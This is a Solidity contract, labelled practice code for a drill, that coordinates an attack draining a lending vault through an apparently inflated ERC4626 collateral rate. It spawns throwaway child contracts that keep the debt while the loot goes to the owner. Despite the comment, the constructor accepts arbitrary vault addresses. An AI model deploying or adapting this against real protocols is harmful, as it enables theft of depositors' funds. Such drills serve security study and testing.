// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.37;

import {IERC4626} from "@openzeppelin/contracts/interfaces/IERC4626.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

import {Drainer} from "./Drainer.sol";
import {ILendingVault} from "./ILendingVault.sol";

/// @title DrainController
/// @notice PRACTICE CODE: holds the attacker's coins between the strikes of the drill. Not usable against anything but
/// the drill's own vault.
contract DrainController {
    using SafeERC20 for IERC20;

    /// @notice The attacker's account, which gets the loot.
    address public immutable owner;
    /// @notice Vault whose rate is inflated.
    IERC4626 public immutable collateralVault;
    /// @notice Vault that is drained.
    ILendingVault public immutable lendingVault;
    /// @notice Most shares that each strike pledges.
    uint256 public immutable capShares;

    /// @notice The caller is not the owner.
    error NotOwner(address caller);

    /// @param capShares_ The lending vault's cap on pledged shares per account.
    constructor(IERC4626 collateralVault_, ILendingVault lendingVault_, uint256 capShares_) {
        owner = msg.sender;
        collateralVault = collateralVault_;
        lendingVault = lendingVault_;
        capShares = capShares_;
    }

    /// @notice One strike through a fresh child. The coins come back here, the loot goes to the owner.
    /// @param borrowAmount Base units to take, or zero for as much as the limits allow.
    /// @return drainer The child that did it and that is left with the debt.
    /// @return taken Base units that were taken.
    function strike(uint256 borrowAmount) external returns (address drainer, uint256 taken) {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        Drainer child = new Drainer(collateralVault, lendingVault, capShares);
        IERC20 coin = IERC20(collateralVault.asset());
        coin.safeTransfer(address(child), coin.balanceOf(address(this)));
        return (address(child), child.run(borrowAmount, owner));
    }

    /// @notice Take the coins out after the last strike.
    function withdraw(IERC20 coin) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        coin.safeTransfer(owner, coin.balanceOf(address(this)));
    }
}
